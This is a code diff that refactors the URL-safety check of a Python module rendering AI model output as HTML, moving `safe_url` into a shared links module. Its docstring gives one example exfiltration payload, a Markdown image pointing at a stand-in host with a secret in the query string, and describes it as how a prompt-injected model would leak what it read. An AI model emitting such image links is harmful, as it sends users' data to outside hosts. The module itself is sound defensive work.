@@ -7,8 +7,8 @@ every Python surface builds its HTML here:
 
 - our own structure (tool lines, diffs, tables) is HTML whose every piece of text is escaped;
 - the model's prose goes through markdown-it with raw HTML off, so `<tag>` stays text;
-- links are made only to `http`, `https`, `mailto`, relative and `#anchor` targets, judged after
-  entities are decoded and whitespace and control characters are removed, as a browser would;
+- links are made only to `http`, `https`, `mailto`, relative and `#anchor` targets (`links.py`,
+  the one rule the Markdown export follows too);
 - images become links: an image loads by itself, and `![](https://host/?q=<secret>)` is how an
   injected model would leak what it read.
 
@@ -18,16 +18,14 @@ markdown-it loads on first render, not when the extension loads.
 from __future__ import annotations
 
 import html
-import re
 from collections.abc import Iterable, Sequence
 from dataclasses import dataclass
 from functools import lru_cache
 from typing import Any
-from urllib.parse import unquote
 
-ALLOWED_SCHEMES = frozenset({"http", "https", "mailto"})
-_SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.\-]*):")
-_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")
+from ..links import SCHEME as _SCHEME
+from ..links import safe_url as safe_url
+
 _LINK_ATTRS = 'target="_blank" rel="noopener noreferrer nofollow"'
 DIFF_STYLES = {
     "add": "background:rgba(46,160,67,0.15)",
@@ -52,16 +50,6 @@ class Rendered:
 def escape(text: object) -> str:
     """Text as HTML text or attribute value: `& < > " '` escaped, nothing else changed."""
     return html.escape(str(text), quote=True)
-
-
-def safe_url(url: str) -> bool:
-    """True for a link target a click may follow: http(s), mailto, or relative (no other scheme)."""
-    for form in (url, unquote(url)):
-        plain = _INVISIBLE.sub("", html.unescape(form))
-        scheme = _SCHEME.match(plain)
-        if scheme is not None and scheme.group(1).lower() not in ALLOWED_SCHEMES:
-            return False
-    return True
 
 
 def markdown_html(text: str) -> str:
